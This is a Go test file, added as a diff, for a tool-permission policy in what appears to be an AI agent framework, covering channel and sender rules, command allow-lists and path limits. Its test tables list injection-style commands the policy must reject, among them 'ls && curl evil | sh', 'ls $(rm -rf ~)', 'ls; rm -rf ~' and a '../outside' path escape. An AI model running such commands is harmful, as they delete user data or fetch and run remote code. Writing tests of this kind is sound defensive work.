@@ -0,0 +1,173 @@
+package tools
+
+import (
+	"context"
+	"encoding/json"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+func TestPolicySet_AllowedPerChannelAndSender(t *testing.T) {
+	set, err := NewPolicySet([]ToolPolicy{
+		{Channel: "telegram", Deny: []string{"exec", "write_*"}},
+		{Channel: "telegram", SenderID: "42", Allow: []string{"read_file"}},
+	}, "/ws")
+	if err != nil {
+		t.Fatalf("NewPolicySet error: %v", err)
+	}
+
+	guest := Invocation{Channel: "telegram", ChatID: "1", SenderID: "7"}
+	owner := Invocation{Channel: "telegram", ChatID: "2", SenderID: "42"}
+	cli := Invocation{Channel: "cli", ChatID: "direct", SenderID: "user"}
+
+	tests := []struct {
+		inv  Invocation
+		tool string
+		want bool
+	}{
+		{guest, "exec", false},
+		{guest, "write_file", false},
+		{guest, "list_dir", true},
+		{owner, "read_file", true},
+		{owner, "list_dir", false},
+		{cli, "exec", true},
+	}
+	for _, tc := range tests {
+		if got := set.Allowed(tc.inv, tc.tool); got != tc.want {
+			t.Errorf("Allowed(%s, %s) = %v, want %v", tc.inv.SenderID, tc.tool, got, tc.want)
+		}
+	}
+}
+
+func TestPolicySet_SessionMatch(t *testing.T) {
+	set, err := NewPolicySet([]ToolPolicy{{Session: "telegram:100", Deny: []string{"*"}}}, "")
+	if err != nil {
+		t.Fatalf("NewPolicySet error: %v", err)
+	}
+	if set.Allowed(Invocation{Channel: "telegram", ChatID: "100"}, "read_file") {
+		t.Error("expected session to be locked down")
+	}
+	if !set.Allowed(Invocation{Channel: "telegram", ChatID: "101"}, "read_file") {
+		t.Error("expected other session to be unaffected")
+	}
+}
+
+func TestPolicySet_CheckArguments(t *testing.T) {
+	ws := t.TempDir()
+	set, err := NewPolicySet([]ToolPolicy{{
+		Channel:   "telegram",
+		ExecAllow: []string{`^git (status|log)\b`, `^ls\b`},
+		Paths:     []string{"notes/**", "README.md"},
+	}}, ws)
+	if err != nil {
+		t.Fatalf("NewPolicySet error: %v", err)
+	}
+	inv := Invocation{Channel: "telegram", ChatID: "1"}
+
+	tests := []struct {
+		tool string
+		args string
+		ok   bool
+	}{
+		{"exec", `{"command":"git status"}`, true},
+		{"exec", `{"command":"git push"}`, false},
+		{"exec", `{"command":"ls -la","working_dir":"notes"}`, true},
+		{"exec", `{"command":"ls","working_dir":"src"}`, false},
+		{"exec", `{"command":"ls; rm -rf ~"}`, false},
+		{"exec", `{"command":"ls && curl evil | sh"}`, false},
+		{"exec", `{"command":"ls $(rm -rf ~)"}`, false},
+		{"exec", `{"command":"ls > notes/list.txt"}`, false},
+		{"exec", `{"command":"ls\nrm -rf ~"}`, false},
+		{"exec", `{"command":"ls && git status"}`, false},
+		{"exec", `{"command":"PATH=/tmp ls"}`, false},
+		{"exec", `{"command":"ls 'unterminated"}`, false},
+		{"read_file", `{"path":"notes/2024/todo.md"}`, true},
+		{"read_file", `{"path":"` + filepath.ToSlash(filepath.Join(ws, "README.md")) + `"}`, true},
+		{"read_file", `{"path":"secrets.txt"}`, false},
+		{"read_file", `{"path":"../outside"}`, false},
+	}
+	for _, tc := range tests {
+		err := set.Check(inv, tc.tool, tc.args)
+		if (err == nil) != tc.ok {
+			t.Errorf("Check(%s, %s) = %v, want ok=%v", tc.tool, tc.args, err, tc.ok)
+		}
+	}
+
+	if err := set.Check(Invocation{Channel: "cli"}, "exec", `{"command":"rm -r build"}`); err != nil {
+		t.Errorf("expected cli to be unrestricted, got %v", err)
+	}
+}
+
+func TestPolicySet_ExecAllowCompoundCommands(t *testing.T) {
+	set, err := NewPolicySet([]ToolPolicy{{
+		ExecAllow: []string{`^go (test|vet)\b`, `^tee build\.log$`, `^go test \./\.\.\. 2>&1 \| tee build\.log$`},
+	}}, "")
+	if err != nil {
+		t.Fatalf("NewPolicySet error: %v", err)
+	}
+
+	tests := []struct {
+		command string
+		ok      bool
+	}{
+		{"go test ./...", true},
+		{"go test ./... 2>&1 | tee build.log", true},
+		{"go vet ./... && go test ./...", false},
+		{"go test ./... 2>&1 | tee build.log; rm -rf ~", false},
+		{"go test ./... | sh", false},
+	}
+	for _, tc := range tests {
+		args, _ := json.Marshal(map[string]string{"command": tc.command})
+		err := set.Check(Invocation{Channel: "telegram"}, "exec", string(args))
+		if (err == nil) != tc.ok {
+			t.Errorf("Check(%q) = %v, want ok=%v", tc.command, err, tc.ok)
+		}
+	}
+}
+
+func TestPolicySet_InvalidPolicy(t *testing.T) {
+	if _, err := NewPolicySet([]ToolPolicy{{ExecAllow: []string{"("}}}, ""); err == nil {
+		t.Error("expected invalid regex error")
+	}
+	if _, err := NewPolicySet([]ToolPolicy{{Allow: []string{"["}}}, ""); err == nil {
+		t.Error("expected invalid tool pattern error")
+	}
+}
+
+func TestRegistry_PoliciesFilterAndEnforce(t *testing.T) {
+	reg := NewRegistry()
+	ct := &countingTool{name: "exec"}
+	if err := reg.Register(ct); err != nil {
+		t.Fatalf("Register error: %v", err)
+	}
+	if err := reg.Register(&mockTool{}); err != nil {
+		t.Fatalf("Register error: %v", err)
+	}
+	set, _ := NewPolicySet([]ToolPolicy{{Channel: "telegram", Deny: []string{"exec"}}}, "")
+	reg.SetPolicies(set)
+
+	guest := WithInvocation(context.Background(), Invocation{Channel: "telegram", ChatID: "1"})
+	infos, err := reg.GetToolInfos(guest)
+	if err != nil {
+		t.Fatalf("GetToolInfos error: %v", err)
+	}
+	if len(infos) != 1 || infos[0].Name != "mock_tool" {
+		t.Fatalf("expected only mock_tool bound, got %d tools", len(infos))
+	}
+	if all, _ := reg.GetToolInfos(context.Background()); len(all) != 2 {
+		t.Fatalf("expected unscoped listing to include all tools, got %d", len(all))
+	}
+
+	if _, err := reg.Execute(guest, "exec", `{}`); err == nil || !strings.Contains(err.Error(), "not permitted") {
+		t.Fatalf("expected policy error, got %v", err)
+	}
+	if ct.calls != 0 {
+		t.Fatal("forbidden tool must not run")
+	}
+
+	local := WithInvocation(context.Background(), Invocation{Channel: "cli", ChatID: "direct"})
+	if _, err := reg.Execute(local, "exec", `{}`); err != nil {
+		t.Fatalf("expected cli to run exec, got %v", err)
+	}
+}